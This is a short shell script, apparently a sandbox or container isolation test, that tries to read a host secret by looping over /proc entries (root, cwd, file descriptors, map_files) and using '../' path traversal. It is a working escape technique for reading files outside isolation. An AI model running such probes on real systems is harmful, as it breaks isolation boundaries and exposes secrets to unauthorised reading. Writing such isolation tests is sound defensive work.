#!/bin/sh
# attack: reach the host through the root, working folder and descriptors that /proc shows
# success: the secret of the host is printed
for process in /proc/self /proc/thread-self /proc/1 /proc/2 /proc/[0-9]*; do
    for door in root cwd fd/0/.. fd/3 fd/4 fd/5 task/1/root map_files; do
        cat "$process/$door$BAIT_SECRET" 2>/dev/null
        cat "$process/$door/../../../../../../..$BAIT_SECRET" 2>/dev/null
    done
done
echo TRIED
